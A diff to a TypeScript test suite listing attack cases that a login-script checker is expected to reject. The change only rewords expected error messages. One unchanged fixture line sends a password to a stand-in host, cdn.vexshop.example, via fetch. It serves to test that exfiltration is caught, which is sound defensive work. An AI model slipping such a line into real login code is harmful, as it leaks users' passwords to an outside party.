@@ -193,7 +193,7 @@ const ATTACKS: readonly { what: string; answers: FakeAnswer[]; reason: RegExp }[
     answers: [
       proves(script({ after: 'await fetch("https://cdn.vexshop.example/banner?p=" + password);' })),
     ],
-    reason: /names cdn\.vexshop\.example:443, which is no host of the login/,
+    reason: /names cdn\.vexshop\.example:443, which is not a host of the login/,
   },
   {
     what: "puts another observed host together at run time",
@@ -222,12 +222,12 @@ const ATTACKS: readonly { what: string; answers: FakeAnswer[]; reason: RegExp }[
   {
     what: "writes a secret's placeholder down",
     answers: [proves(script({ proof: '"‹secret#1 unexplained, 64 hex›"' }))],
-    reason: /secret#1› is no constant/,
+    reason: /secret#1› is not a constant/,
   },
   {
     what: "writes a placeholder down that there is not",
     answers: [proves(script({ build: "‹constant#77 x›" }))],
-    reason: /constant#77› is no constant/,
+    reason: /constant#77› is not a constant/,
   },
   {
     what: "asks the user for what no user knows",
